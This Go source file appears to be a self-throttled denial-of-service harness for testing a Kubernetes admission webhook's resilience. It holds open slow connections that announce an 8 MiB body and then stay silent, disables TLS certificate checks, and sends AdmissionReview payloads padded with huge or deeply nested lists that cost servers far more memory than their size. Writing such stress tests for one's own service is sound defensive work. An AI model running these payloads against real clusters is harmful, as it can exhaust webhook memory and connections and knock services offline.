package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// attackMain is the attacker's process. The first line that it reads is its load, each further one the addresses from then on; at the end
// of its input it stops, and writes what came of it.
func attackMain(in io.Reader, out io.Writer) error {
	commands := json.NewDecoder(bufio.NewReader(in))
	var load attackLoad
	if err := commands.Decode(&load); err != nil {
		return err
	}
	ctx, cancel := context.WithCancel(context.Background())
	s := &stranger{load: load, began: time.Now(), answers: map[string]int{}}
	s.targets.Store(&[]string{})
	var group sync.WaitGroup
	for n := range load.Connections {
		group.Go(func() { s.beSilent(ctx, n) })
	}
	group.Go(func() { s.sendBodies(ctx) })
	var err error
	for {
		var addresses []string
		if err = commands.Decode(&addresses); err != nil {
			break
		}
		s.targets.Store(&addresses)
	}
	cancel()
	group.Wait()
	if !errors.Is(err, io.EOF) {
		return err
	}
	counts, err := s.counts()
	if err != nil {
		return err
	}
	return json.NewEncoder(out).Encode(counts)
}

// stranger is a client without credentials.
type stranger struct {
	load    attackLoad
	began   time.Time
	targets atomic.Pointer[[]string]
	opened  atomic.Int64
	sent    atomic.Int64

	mu      sync.Mutex
	answers map[string]int
}

// target is one of the addresses, in turns; empty if no server is there.
func (s *stranger) target(n int) string {
	targets := *s.targets.Load()
	if len(targets) == 0 {
		return ""
	}
	return targets[n%len(targets)]
}

// The servers' certificates are nothing to a stranger.
var anyServer = &tls.Config{InsecureSkipVerify: true} //nolint:gosec // see above

// reopenAfter is the pause before a connection that was closed is opened again.
const reopenAfter = 100 * time.Millisecond

// beSilent keeps one connection open on which nothing comes: every other one after the head of a request for 8 MiB and one byte.
func (s *stranger) beSilent(ctx context.Context, n int) {
	for s.pace(ctx) {
		s.silentOnce(ctx, n)
		sleep(ctx, reopenAfter)
	}
}

func (s *stranger) silentOnce(ctx context.Context, n int) {
	target := s.target(n)
	if target == "" {
		return
	}
	dialer := &tls.Dialer{NetDialer: &net.Dialer{Timeout: 10 * time.Second}, Config: anyServer}
	conn, err := dialer.DialContext(ctx, "tcp", target)
	if err != nil {
		return
	}
	defer conn.Close()
	s.opened.Add(1)
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	if n%2 == 0 {
		const head = "POST /validate?timeout=30s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 8388608\r\n\r\n{"
		if _, err := io.WriteString(conn, head); err != nil {
			return
		}
	}
	_, _ = io.Copy(io.Discard, conn) // until the server closes it
}

// inFlight bounds the bodies that are sent at once: where the server is slow, not all are sent.
const inFlight = 64

func (s *stranger) sendBodies(ctx context.Context) {
	if s.load.Bodies <= 0 {
		return
	}
	client := &http.Client{
		Timeout:   30 * time.Second,
		Transport: &http.Transport{TLSClientConfig: anyServer, MaxIdleConnsPerHost: inFlight},
	}
	bodies := hostileBodies()
	slots := make(chan struct{}, inFlight)
	ticks := time.NewTicker(time.Duration(float64(time.Second) / s.load.Bodies))
	defer ticks.Stop()
	var group sync.WaitGroup
	defer group.Wait()
	for n := 0; s.pace(ctx); n++ {
		select {
		case <-ctx.Done():
			return
		case <-ticks.C:
		}
		select {
		case slots <- struct{}{}:
		default:
			continue
		}
		group.Go(func() {
			defer func() { <-slots }()
			s.send(ctx, client, n, bodies[n%len(bodies)])
		})
	}
}

func (s *stranger) send(ctx context.Context, client *http.Client, n int, body []byte) {
	target := s.target(n)
	if target == "" {
		return
	}
	path := [...]string{"validate", "mutate"}[n/2%2]
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+target+"/"+path+"?timeout=30s", bytes.NewReader(body))
	if err != nil {
		return
	}
	request.Header.Set("Content-Type", "application/json")
	s.sent.Add(1)
	answer := "error"
	if response, err := client.Do(request); err == nil {
		answer = strconv.Itoa(response.StatusCode)
		_, _ = io.Copy(io.Discard, response.Body)
		response.Body.Close()
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.answers[answer]++
}

// pace waits while the attacker has used more than its share of a core. False means that the attack is over.
func (s *stranger) pace(ctx context.Context) bool {
	for ctx.Err() == nil {
		used, err := cpuTime()
		allowed := time.Duration(s.load.Cores * float64(time.Since(s.began)))
		if err != nil || used <= allowed {
			return true
		}
		sleep(ctx, max(time.Millisecond, used-allowed))
	}
	return false
}

func sleep(ctx context.Context, d time.Duration) {
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-ctx.Done():
	case <-timer.C:
	}
}

// cpuTime is what this process has used, user and system.
func cpuTime() (time.Duration, error) {
	var used unix.Timespec
	err := unix.ClockGettime(unix.CLOCK_PROCESS_CPUTIME_ID, &used)
	return time.Duration(used.Nano()), err
}

func (s *stranger) counts() (attackCounts, error) {
	used, err := cpuTime()
	s.mu.Lock()
	defer s.mu.Unlock()
	return attackCounts{
		Opened: int(s.opened.Load()), Sent: int(s.sent.Load()), Answers: s.answers, Cores: used.Seconds() / time.Since(s.began).Seconds(),
	}, err
}

// hostileBytes is how long a hostile list is: at v0.1.0 0.3 MiB cost a server 277 MB.
const hostileBytes = 300 << 10

// hostileBodies are AdmissionReviews that cost more than their bytes.
func hostileBodies() [][]byte {
	empty := "[" + repeat("{}", hostileBytes) + "]"
	pod := func(spec string) string {
		return `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"x","namespace":"dexorder-agents"},"spec":{"template":{"spec":{` + spec + `}}}}`
	}
	objects := []string{
		pod(`"containers":` + empty),
		pod(`"initContainers":` + empty),
		pod(`"volumes":` + empty),
		pod(`"containers":[{"name":"a","env":` + empty + `}]`),
		`{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"x","managedFields":` + empty + `}}`,
		pod(`"containers":` + nested(hostileBytes/2)),
	}
	bodies := make([][]byte, 0, len(objects))
	for _, object := range objects {
		bodies = append(bodies, fmt.Appendf(nil, `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"u",`+
			`"kind":{"group":"apps","version":"v1","kind":"Deployment"},"resource":{"group":"apps","version":"v1","resource":"deployments"},`+
			`"name":"x","namespace":"dexorder-agents","operation":"CREATE","userInfo":{"username":"stranger"},"object":%s}}`, object))
	}
	return bodies
}

// repeat is a list's content of about that many bytes.
func repeat(item string, length int) string {
	var b bytes.Buffer
	b.WriteString(item)
	for b.Len() < length {
		b.WriteString("," + item)
	}
	return b.String()
}

// nested is a list in a list, so many times.
func nested(depth int) string {
	return string(bytes.Repeat([]byte("["), depth)) + string(bytes.Repeat([]byte("]"), depth))
}
